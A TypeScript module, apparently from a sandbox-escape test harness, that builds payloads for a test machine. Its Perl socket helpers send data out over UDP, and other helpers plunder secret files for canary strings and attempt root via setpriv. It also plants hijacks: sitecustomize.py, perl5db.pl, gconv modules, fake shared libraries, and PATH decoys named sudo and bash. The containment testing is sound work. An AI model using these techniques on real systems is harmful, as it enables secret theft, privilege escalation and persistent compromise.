/**
 * Pieces of shell and Perl that attacks are made of: how they speak, how they look for secrets, and the tools that the
 * planter leaves for them. Nothing here needs more than a Debian with perl-base.
 */

import { quoted } from '../../contextualization/shell.ts'
import { defaultWallMs, type Payload, type Scene, sh } from './attack.ts'
import { canaryPattern } from './canaries.ts'

/** What code of an attack needs to know, as variables of its environment. */
export function knowledge(
  scene: Pick<Scene, 'marker' | 'listener' | 'port' | 'secretFiles'>,
): Readonly<Record<string, string>> {
  return {
    HOSTILE_MARK: scene.marker,
    HOSTILE_HOST: scene.listener,
    HOSTILE_PORT: String(scene.port),
    HOSTILE_LOOT: Object.values(scene.secretFiles).join(':'),
  }
}

/** Shell: `canaries` filters, `say` sends a line, `who` prints how it runs, `loot FILE...` prints what is found. */
export const shellWords = `
canaries() { grep -aoE '${canaryPattern}' 2>/dev/null | sort -u; }
say() { /usr/bin/perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); send(S, "$ENV{HOSTILE_MARK} " . join(" ", @ARGV), 0, pack_sockaddr_in($ENV{HOSTILE_PORT}, inet_aton($ENV{HOSTILE_HOST})))' "$@" 2>/dev/null; }
who() { echo "RAN uid=$(id -u) caps=$(sed -n 's/^CapEff:[^0-9a-f]*//p' /proc/self/status) pidns=$(readlink /proc/self/ns/pid)"; }
loot() { for file in "$@"; do [ -e "$file" ] || continue; timeout 2 head -c 300000 "$file" 2>/dev/null | canaries; done; }
secrets() { printf '%s' "$HOSTILE_LOOT" | tr ':' '\\n'; }
plunder() { for file in $(secrets); do loot "$file"; done; }
`

/** Perl: `say_out(TEXT)` sends a line. */
export function perlWords(scene: Scene): string {
  return (
    `use Socket; socket(my $hs, PF_INET, SOCK_DGRAM, 0); my $hto = pack_sockaddr_in(${scene.port}, inet_aton("${scene.listener}"));` +
    `sub say_out { send($hs, "${scene.marker} " . join(" ", @_), 0, $hto) }`
  )
}

export function shell(scene: Scene, script: string, more: Partial<Payload> = {}): Payload {
  return sh(`${shellWords}\n${script}`, { ...more, environment: { ...knowledge(scene), ...more.environment } })
}

/** Says who it is and takes what it can, whatever environment it was started with. */
const proof = `#!/bin/sh
exec /usr/bin/env -i HOSTILE_MARK="$HOSTILE_MARK" HOSTILE_HOST="$HOSTILE_HOST" HOSTILE_PORT="$HOSTILE_PORT" \\
  HOSTILE_LOOT="$HOSTILE_LOOT" PATH=/usr/bin:/bin /bin/sh "\${0%/*}/take.sh"
`
const take = `${shellWords}
say "$(who)"
say "$(plunder)"
say "$(setpriv --reuid=0 --regid=0 --clear-groups /bin/sh "\${0%/*}/root.sh" 2>/dev/null)"
`
const root = `${shellWords}
who
plunder
`

/** What a script waits for, in seconds, and gives up after, as shell, Perl and Python write it. */
const waits =
  /(\bselect undef, undef, undef, |\bsleep[ (]|\btime(?:\.time\(\))? \+ |\btimeout |\balarm |\bTimeout => )(\d+(?:\.\d+)?)/g

/** The same payload for a machine that is slower by this factor: whatever it does in a time, it has the time for. */
export function slowed(payload: Payload, slowness: number): Payload {
  const { wallMs = defaultWallMs } = payload
  const longer = (text: string): string =>
    text.replace(waits, (_, before: string, seconds: string) => before + Number((Number(seconds) * slowness).toFixed(3)))
  return { ...payload, arguments: payload.arguments.map(longer), wallMs: wallMs * slowness }
}

/** What a starter of payloads may call by name alone. */
const names =
  'sh bash dash env setpriv perl python3 node bwrap unshare mount umount id cat prlimit timeout nice setsid chroot newuidmap newgidmap systemd-run nsenter sudo su rm chmod chown kill mkdir true'
/** What these load by name alone. */
const libraries = 'libcap-ng.so.0 libcap.so.2 libselinux.so.1 libpcre2-8.so.0 libcrypt.so.1 libdl.so.2 libpthread.so.0'

/**
 * The planter's script: it leaves tools in its home for every payload of the machine, and stays for `seconds`. `library`:
 * the probe in base64, or words of shell that stand for it.
 */
export function planterScript(library: string | undefined, seconds: number): string {
  const file = (path: string, text: string): string => `printf '%s' ${quoted(text)} >${path}`
  const lines = [
    'cd "$HOME" && umask 022 && chmod 755 . && mkdir bin lib perl py',
    file('proof.sh', proof),
    file('take.sh', take),
    file('root.sh', root),
    file('rc', '/bin/sh "$HOSTILE_PLANT/proof.sh"\n'),
    file('perl/Evil.pm', 'package Evil; BEGIN { system("/bin/sh", "$ENV{HOSTILE_PLANT}/proof.sh") } 1;\n'),
    file('perl/perl5db.pl', 'BEGIN { system("/bin/sh", "$ENV{HOSTILE_PLANT}/proof.sh") } 1;\n'),
    file('py/sitecustomize.py', 'import os\nos.system("/bin/sh $HOSTILE_PLANT/proof.sh")\n'),
    file('evil.cjs', 'require("child_process").spawnSync("/bin/sh", [process.env.HOSTILE_PLANT + "/proof.sh"])\n'),
    file('bin/proof', '#!/bin/sh\nexec /bin/sh "$HOSTILE_PLANT/proof.sh"\n'),
    `for name in ${names}; do cp bin/proof bin/$name; done; chmod 755 bin/* proof.sh`,
    'mkdir gconv && echo "module HOSTILE// INTERNAL ../evil 1" >gconv/gconv-modules',
  ]
  if (library !== undefined) {
    lines.push(
      `printf %s ${library} | base64 -d >evil.so && chmod 755 evil.so`,
      `for name in ${libraries}; do cp evil.so lib/$name; done`,
    )
  }
  return [...lines, 'echo planted >ready', `sleep ${seconds}`].join('\n')
}
